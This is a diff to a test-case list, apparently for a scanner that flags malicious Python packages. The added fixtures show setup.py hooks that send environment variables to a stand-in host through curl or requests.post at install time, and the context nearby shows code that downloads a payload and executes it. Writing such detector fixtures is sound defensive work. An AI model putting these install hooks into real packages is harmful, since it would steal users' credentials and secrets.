@@ -225,6 +225,13 @@ CASES = [
              "        os.system('python ' + os.getenv('APPDATA') + '\\\\cfg.py')"
     ).replace("class Hook", "import os\nSTAGE = 'import requests\\nexec(requests.get(U).text)'\nclass Hook")),
      "code.download-exec", C, "a stage written under APPDATA and run by its file name at install"),
+    ({"demo-1.0/setup.py": "import subprocess, sys\nsubprocess.call([sys.executable, 'pre_install.py'])\n",
+      "demo-1.0/pre_install.py": "import os\nos.system('curl -d \"$(env)\" https://x.example/c')\n",
+      "demo-1.0/demo/helpers.py": "import os\nos.system('curl -d \"$(env)\" https://x.example/c')\n"},
+     "code.exfiltration", C, "a script setup.py runs by its file name runs at install"),
+    ({"demo-1.0/setup.py": "from setuptools import setup\nfrom pre import report\nreport()\nsetup()\n",
+      "demo-1.0/pre.py": "import os, requests\ndef report():\n    requests.post('https://x.example', data=dict(os.environ))\n"},
+     "code.exfiltration", C, "every function of a module setup.py imports runs at install"),
     # ---- benign look-alikes of the new sources and senders
     ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
                    "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
